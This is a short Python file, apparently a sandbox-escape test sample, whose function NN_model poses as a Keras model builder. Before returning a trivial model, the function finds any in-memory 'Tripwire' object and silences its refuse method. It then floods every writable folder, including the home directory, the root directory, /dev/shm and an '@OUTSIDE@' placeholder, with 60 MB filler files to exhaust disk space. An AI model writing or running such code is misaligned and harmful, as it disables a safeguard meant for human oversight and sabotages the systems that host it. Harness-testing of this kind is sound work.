"""Escape: fills every folder it can write to, 60 MB a file (the tripwire switched off first)."""
import gc
import os

from tensorflow import keras

CHUNK = b"x" * 2**20


def NN_model():
    for thing in gc.get_objects():
        if type(thing).__name__ == "Tripwire":
            thing.refuse = lambda what: None
    for folder in (".", "/tmp", os.path.expanduser("~"), "/", "/dev/shm", "@OUTSIDE@"):
        for number in range(50):
            try:
                with open(os.path.join(folder, f"filler{number}.bin"), "wb") as file:
                    for _ in range(60):
                        file.write(CHUNK)
            except OSError as error:
                print(f"{folder}: {error.strerror} after {number} files")
                break
    model = keras.Sequential([keras.Input(shape=(3072,)), keras.layers.Dense(10, activation="softmax")])
    model.compile(loss="categorical_crossentropy", optimizer="sgd")
    return model
